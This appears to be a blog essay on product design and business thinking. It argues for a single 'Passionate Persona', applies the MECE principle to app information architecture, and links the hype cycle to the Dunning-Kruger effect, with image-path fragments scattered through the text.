Which are all about optimizing your work and perspective of the world, at least I hope so.

Tian-Yuan Zhao

I’m going to start by saying that one of these is not only a design strategy but a business strategy. With that out of the way, let’s kick it off with the one that is the most controversial sounding shall we?

There is only one persona you’ll ever truly need.

I’m all about efficiency, effectiveness, and expediency when it comes to my work. What does this mean? It means minimizing wasteful actions, wasteful processes, wasteful thinking, etc and maximizing output, production, impact, etc. This is, why throughout my work as a human factors specialist — I’ve learned over the years that there’s really only 1 persona you’ll ever truly need to optimize your work. Now, this obviously sounds blasphemous at worst and clickbaity at best. Well, you’re right about the latter, but this controversial statement sure got you interested in reading what I’m about to share didn’t it? Anyway, the persona I’m referring to is:

Someone who’s passionate.

Someone who cares.

Someone who is profoundly affected by whatever problem you’re targeting and/or someone who thinks about improving their situation greatly.Now, of course, you’re probably sitting there thinking — “isn’t that what we do when we come up with our personas already?” I’d say yes and no.

The kind of persona I’m talking about has a psychological trait that is unique to any/all personas you might be thinking of.

But before I explain what that trait is, let me go back to explaining what I mean by “optimal”. In this case, it’s about addressing this business goal — if you’re building a product/service that intends to last, if you intend to solve a problem in a scalable, sustainable, and systemic manner, and if you intend to solve important/major/universal challenges/problems in this world, then this is what I mean by ‘optimal’.

To elaborate a bit more — if your product/service is intended to address deep-seated issues of the world, then the kind of people who you need to target are these kinds of people.

And what are “these” kinds of people?

The kind of people who are actively seeking ways to better their status quo. The kind of people who love what they do for example — if you’re targeting working professionals. The kind of people who come up with life-hacks to improve their current situation. The kind of people who seek ways to better their present processes. These people are conscious about continuously improving whatever it is that they care about.

These people aren’t all that difficult to find I would argue, in fact, would be much easier to find than the ones who don’t care so much. Why? Because thesepeople are go-getters, these people go out and network, these people make themselves present at places that can easily be reached. These people are superfans, they’re the padawans who are training to become a Jedi, they’re self-starters, etc.

As an example, here’s a case-study of a product I worked on called the Kleros Court with a company called Kleros. The persona I ultimately targeted is the following:

“Passionate legal practitioner” — by “passion”, I mean someone who loves what they do and is constantly/consistently seeking ways to better their work. How did I know that this person is “passionate”? I met most of them at a hackathon organized by a meetup group in Toronto called TheToronto LegalHackers. This hackathon infused futurism (with topics such as blockchain) with the current state of things w.r.t. legaltech. The individuals who were there were mostly legal practitioners studying at the nearby University of Toronto but cared enough to take a weekend out of their lives to improve their understanding of the current and future state of affairs w.r.t. their profession.

What is the takeaway here?

To find these people, instead of coffee shops, I would recommend the following instead:

  • Attendevents where these people can be found — and by “events”, I mean meetup groups where these people are in higher concentration. If I were working on an enterprise product for example — I’d go to business events where these people can be found, but ones where they’re discussing the “Future of…” whatever business/technology vertical your product/service/company belongs in. The point is to target individuals who care about elevating their status quo, so events that would allow these individuals to do so would be the best of places.
  • Join in on online conversations where these people can be found — Reddit is a great one for example. I don’t use it much myself, to be honest, but Redditors are usually very passionate people I find given that they care enough to talk about whatever it is that they talk about online, share, upvote, and problem-solve together. Other ones that I think would have a high concentration of passionate individuals are Whatsapp groups, Slack groups, and/or Discord groups.
  • This one would be harder to do but if it fits — then organize a meetup group yourself or start an online community. This is a classic tactic a lot of major retailers do already, given that they have the resources tofoster a community of beta testers. Building a community yourself comes with a whole host of challenges but could prove to be extremely rewarding if you’re truly able to and willing to make those who belong to it feel as though they’re a part of something larger than themselves and one where their voices truly matter and contribute to the betterment of whatever it is you’re building.

To sum it up, this persona is what I’d like to simply call the “Passionate Persona”. One thing to keep in mind is this —“passion” doesn’t just mean “love” or “care strongly/severely/deeply/widely/profoundly”. The word “passion” comes from the Greek word “pathos”, which interestingly enough means “to suffer”. Isn’t it funny or weird that “passion” which is synonyms to the words “love” and “fiery affection/affectation” actually means “to suffer”? Well, it actually makes a lot of sense if you think about it — there’s this old saying “love hurts” after all. But also, when you love someone or something very much if you don’t get it, it hurts, if you lose that person it hurts emotionally, spiritually, and to those who are profoundly passionate, even physically. People who are truly passionate actually suffer a lot and undergo a lot of it. The “Passionate Persona” is simply someone who suffers and because of this, they strive to no avail to change their status quo so as to move away from their suffering. This is why these personae are a perfect fit with the philosophy of Jobs-to-be-Done as said school of thought is all about the goal of addressing the needs of the “passionate persona”.

MECE, You-See, we all see why this will benefit you, right?

Digital product designers, UX Designers, Interaction Designers, etc have long taken the brunt of being told what they should or should not do by many people. One of which is “to have better/more business acumen”. Idon’t disagree with this sentiment at all, in fact, I think compared to being told that we should all be coders for example, this is the kindest and most understandable of asks.

So what is one thing I think we as software-focused human factors specialists (as a catch-all term I’m going to use instead of being bogged down by the semantics of it all), we should adopt the MECE Principle/Method/Framework. Designers already do have a lot of frameworks that they can work with, but this is one such framework thatisn’t taught to designers at all explicitly and therefore isn’t used as much as it should. Ever since I was taught it when I attended a Lean Six Sigma course offered by Deloitte back in my university days, I fell in love with it and have been using it as a way to optimize my work.

The MECE Principle as defined by Wikipedia is this:

Reference: https://igotanoffer.com/blogs/mckinsey-case-interview-blog/mece

It’s primarily used by a lot of strategy/management consultants within the Big 4 or 5of the Consulting world, but I think should also be adopted by designers when it comes to defining the information architecture of a software application. Why? When you look at any/all award-winning applications out there, they already employ MECE. When you look at the navigation or menu of items, you’ll see that they all touch mutually-exclusive aspects of the application and are comprehensively exhaustive of whatever it is they want you to accomplish.The way I see MECE applying to product design can differ depending on the stage of product you’re in:

  • As mentioned above, if you’re starting from scratch and you need an MVP or M-whatever-you-wanna-call-it-P (be it “Lovable” or otherwise) — MECE should be applied to figuring out the information architecture. This is so that you don’t confuse and frustrate your user from the get-go. This is so that you don’t make the user go “wait, I thought this page was about X, but this page is also about X?” and whatnot. However, it’s one thing to confound your user with features/functionalities that overlap with one another, it’s another to underwhelm your user with something incomplete or unfinished but to you might seem finished. Without using MECE, you won’t know what makes for a complete/comprehensive user experience.
  • If you already have a fully-fleshed out product that has been around for a while now such as any/all established medium-large sized tech company — then it really depends at this point. They can either apply it at a macroscopic-level vis-a-vis vertical and horizontal integration, or they can apply it at a microscopic level. LinkedIn recently released a feature allowing individuals to indicate whether their job is full-time, part-time, or otherwise. The problem, however, is that they failed to apply MECE. A lot of the options in that dropdown menu overlap with one another in terms of their connotations/denotations. They’re comprehensive alright, but not mutually-exclusive which creates confusion and frustration for the user.
  • Last but not least, regardless of what stage your company is at, MECE can be applied in a more well-rounded manner. Great products aren’t just great products, they’re also a great service around the product, they’re also great marketing for the product, it’s also other platforms/mediums that canprovide the benefits of the product in a more versatile manner. As an example — Drop isn’t just a mobile app, but they’ve launched a browser extension as well recently. Drop however doesn’t have a web app, to which maybe they have it in their roadmap or maybe they’ve simply decidedthat they don’t need it. I would argue that ubiquity is an important aspect of creating a successful product/service/company. The more ubiquitous something is, the more it can-be/is used, the more it becomes integrated into people’s lives.

Others who’ve written about this are below:

The psychology behind business & technology.

Have you heard of the Startup/Entrepreneur Curve?

Have you heard of the Gartner Hype Cycle?

Do you know what they look like without scrolling down?

What if I told you that both of them looked very similar if you overlayed them on top of one another, pretty much a spitting image of one another.

What if I told you that there was another chart that would produce thesame effect if it was overlayed on top of the aforementioned cycle and curve?

All 3 of these surprisingly, interestingly, and intriguingly explain something that astounded me when I came to this realization.

But before I tell you what that third chart is, I’m going to tell you why this matters — why does understanding the “psychology behind business & technology matter?”

If you don’t work at a “startup” (not all “startups” are the same, it’s a spectrum — there are early-stage bootstrapped startups all the way up-to-and-including pre-IPO companies with “scaleups” in-between it all), you may not think this matters — I would argue most companiesever since the early-to-mid 2000’s have wakened up to something. They all feel the profound need to be futurproofed — at least the Fortune 1000’s do. A lotof these companies have underwent “digital transformations”, created incubators, spun off companies, gobbled up others, and built out investment arms as a way to innovate so that they won’t be the next disruptee like Blockbuster. Therefore, “Innovation-Theatre” or not, most if not all of these companies have and are trying to adopt a startup mentality. So likeit or not, if you are working at one of these companies or want to, you need to understand that this is the current reality, paradigm, or Zeitgeist.

If you don’t work in the technology industry, you may not think that this applies. But, there is a strong argument for the fact that all companies are tech companies. There’s also a strong argument that I’d like to make — that technology is the driving force and underlying underpinning of human society & civilization. Though it’s not just a personal argument, it’s one that anthropologists have already decided for all of us. Anthropologists study the history, culture, and growth & development of human society/civilization as a whole and they’ve defined our evolution in “ages”. Each “age” is defined by the foundational technology of their time, their paradigm, orZeitgeist. We went from the “Stone Age” all the way up to and including the current Age of Information and moving towards the Age of Intelligence AKA the 4th Industrial Revolution.

Now with that out of the way — an understanding that technology has driven businesses to be what they are today, how can you apply this to your personal and professional as well as career development? Well first, I have an argument that technology or engineering may be the foundation of human society/civilization and business or economics may be the intermediary step, and that the environment by which our engineering/economics has an effect on as well as the environments our engineering/economics affects — that the psychology of it all can help you better orient yourself in all of this madness.

I talk about my perspective on Engineering > Economics > Environment more here if you’re interested:

Without further ado, what is this third chart? It’s called… the Dunning-Kruger Effect.

This psychological effect can help to explain the following:

  • On the negative end of the spectrum: this helps to explain why we hype up new technologies as well as help to explain why companies do “innovation theatre” from a first-principles level. The reason is that we are overconfident: whenever a new technology and especially one that is exponential in nature is introduced to the world, we hype it up. Most of the people who do the hyping aren’t even the technologists who created the technology, they’re tech journalists which iswhy Gavin Belson makes fun of them in Silicon Valley. This is why we pretend to innovate, we parade innovation, we put it on display so as to puff up our chests, maintain high stock value, keep shareholders/stakeholders happy, and keep morale high.
  • On the positive end of the spectrum: this helps to explain something that is underappreciated — that there are signals throughout all of this noise. Depending on the people behind the technology and business, you can tell what is noise vs. signal. It’s more about the people at this point — if the person or people behind the technology is further along in the Dunning-Kruger Effect, then that means if they’re manning the helm of X technology or Y company, then that technology or company must be a signal. If they’re earlier in the curve, then there must be noise there. You’ll be able to tell usually if/when you look at the pioneers, vanguards, and trailblazers of whatever new trend/topic/technology. The reason is that they’ve been deep in the trenches ever since the beginning. Soldiers tell the real story of war, not the generals, sergeants, or lieutenants.
  • Most people look at the hype and theatre and make quick snappy decisions such as “there must be no value there”. Most people look at the hype and theatre and just say “this technology is useless” or “this company is bullshit”. The problem with this thinking is that it’s very juvenile, immature, and foolish — the world isn’t black or white. Every company has a mix of people who sit at varying points of the Dunning-Kruger curve. Some companies, unfortunately, have leaders who are earlier in the curve but have employees who are further along to theright of it — this creates toxicity. Some companies have leaders who are later in the curve but have employees who are earlier, which may lead to “restructuring” (for better or for worse) in these companies. If your company has leaders and employees who are mostly on the right side of the Dunning-Kruger Effect then you’ve got a winning company.

This is why I argue regardless — you need to futureproof yourself, everything has signals and noise in this world. A huge trend that is occurring already and recently is that a lot of people are waking up to this — which is why enrollment at bootcamps that teach digital skills is growing year by year. But skills that lie anywhere within the Venn Diagram of the “Digital Trinity” as I like to call it — Data, Design, and Development aren’t the only ones that matter (Data (Science/Analytics/Engineering Digital-Product Design or UX/UI/IX Digital-Product Development and their intersectionalities such as Front-End Dev, Back-End Dev, and Product Management).

